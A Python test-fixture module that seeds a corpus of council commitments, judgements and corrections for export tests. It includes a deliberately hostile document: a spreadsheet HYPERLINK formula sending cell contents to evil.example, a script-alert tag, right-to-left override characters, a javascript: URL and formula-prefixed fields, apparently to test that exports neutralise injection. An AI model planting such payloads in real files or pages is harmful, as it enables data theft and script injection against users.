"""A corpus with a bit of everything that is handed on, hostile words among it; what tests of exports share."""

from collections.abc import Callable
from datetime import date

from sqlalchemy.orm import Session

from corpus import account, commitments, documents, evidence, findings, recorded, versions
from corpus.codebook import CommitmentKind, Judgement, Lang, LinkState, Theme
from corpus.database import Corpus
from corpus.rows import CommitmentFilter
from corpus.types import CaseStudyFinding, CommitmentFinding, Finding, Outcome, ReadDocument, ThemeFinding
from publish.export.about import About, about
from publish.export.chosen import Chosen, Slice
from publish.rights import Rights
from publish.stamp import Stamp, stamp
from tests.tui.filled import BREAKS, CASE, CONSULT, HUBS, REVIEW, Filled, document, paragraph

Put = Callable[[Session, ReadDocument], versions.Added]

ON = date(2026, 3, 2)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE_TITLE = "=1+1 <script>alert(1)</script> \u202eevil\u202c & co"
HOSTILE = document(
    "hostile",
    HOSTILE_TITLE,
    paragraph(f"{FORMULA} must be paid by the council.", 0),
    paragraph("The council will plant\ttrees, \"hedges\"; and 'shrubs',\nby May.", 0),
    publisher="@SUM(1)",
    url="javascript:alert(1)",
    issued=None,
)
PLANT = HOSTILE.passages[1].text


def fill(corpus: Corpus, put: Put) -> Filled:
    """Promises, judged, corrected and not; evidence accepted and suggested; a search in vain; a hostile document."""
    Filled.fill(corpus, put)
    held = Filled(corpus)
    shown, told, _ = held.links()
    with corpus.write() as session:
        keep(session, put, CASE, *_case())
        keep(session, put, HOSTILE, *(_promised(HOSTILE, at) for at in (0, 1)))
    with corpus.write() as session:
        _correct_days(session)
        hubs, review = held_ref(session, HUBS), held_ref(session, REVIEW)
        _judge(session, hubs, Judgement.VERIFIABILITY, "clear")
        first = _judge(session, hubs, Judgement.DELIVERY, "stalled", links=(shown,), as_of=date(2024, 1, 1))
        account.correct(session, first, value="in-progress", because="=Misread", who="Tomos", evidence=[shown])
        search = recorded.record(session, "outcomes -measured", 0, "Mair")
        _judge(session, review, Judgement.DELIVERY, "no-evidence-found", search=search)
        evidence.decide(session, told, LinkState.ACCEPTED, "Mair")
    return held


def _correct_days(session: Session) -> None:
    """One judgement that is corrected to an earlier day; of another day two, the first of which is corrected later."""
    wrong = _judge(session, held_ref(session, BREAKS), Judgement.VERIFIABILITY, "partly", as_of=date(2024, 2, 1))
    account.correct(session, wrong, value="clear", because="Earlier.", who="Tomos", as_of=date(2023, 2, 1))
    consult, day = held_ref(session, CONSULT), date(2024, 6, 1)
    first = _judge(session, consult, Judgement.VERIFIABILITY, "partly", as_of=day)
    _judge(session, consult, Judgement.VERIFIABILITY, "unclear", as_of=day)
    account.correct(session, first, value="clear", because="Misread.", who="Tomos")


def keep(session: Session, put: Put, read: ReadDocument, *found: Finding) -> None:
    """Put a document in, or find it there, with what was found in it."""
    findings.keep(session, put(session, read).version_id, list(found), "rules-1")  # type: ignore[arg-type]


def held_ref(session: Session, quote: str) -> str:
    return next(row.ref for row in commitments.listing(session, CommitmentFilter()) if row.quote == quote)


def chosen(session: Session, wanted: Slice | None = None, rights: Rights | None = None) -> Chosen:
    return Chosen(session, wanted or Slice(CommitmentFilter(on=ON)), rights or Rights())


def stamped(session: Session) -> Stamp:
    return stamp(session, ON)


def told(session: Session, wanted: Slice | None = None, rights: Rights | None = None) -> About:
    return about(chosen(session, wanted, rights), stamped(session))


def passage_text(session: Session, ref: str) -> str:
    return documents.passage(session, ref).text


def _judge(
    session: Session, ref: str, judgement: Judgement, value: str, *, links: tuple[str, ...] = (), search: str = "",
    as_of: date = date(2025, 1, 1),
) -> str:  # fmt: skip
    because = "So the audit says."
    return account.record(
        session, ref, judgement, value, because=because, who="Mair", as_of=as_of, evidence=links, search=search
    ).name


def _case() -> tuple[Finding, ...]:
    text = CASE.passages[0].text
    words = {"passage": 0, "lang": Lang.EN, "confidence": 0.8, "rule": "named"}
    study = CaseStudyFinding(
        quote=text, start=0, end=len(text), name="The old library", place="Aberwen", sector="community",
        outcomes=(Outcome("sixty", "volunteers"),), **words,  # type: ignore[arg-type]
    )  # fmt: skip
    at = text.index("volunteers")
    mark = ThemeFinding(quote="volunteers", start=at, end=at + 10, theme=Theme.CORE_ECONOMY, **words)  # type: ignore[arg-type]
    return study, mark


def _promised(read: ReadDocument, at: int) -> CommitmentFinding:
    passage = read.passages[at]
    return CommitmentFinding(
        passage=at, quote=passage.text, start=passage.start, end=passage.end, lang=read.lang, confidence=0.5,
        rule="+rule", kind=CommitmentKind.DUTY, actor="=the council", themes=(Theme.ASSETS, Theme.PREVENTION),
    )  # fmt: skip
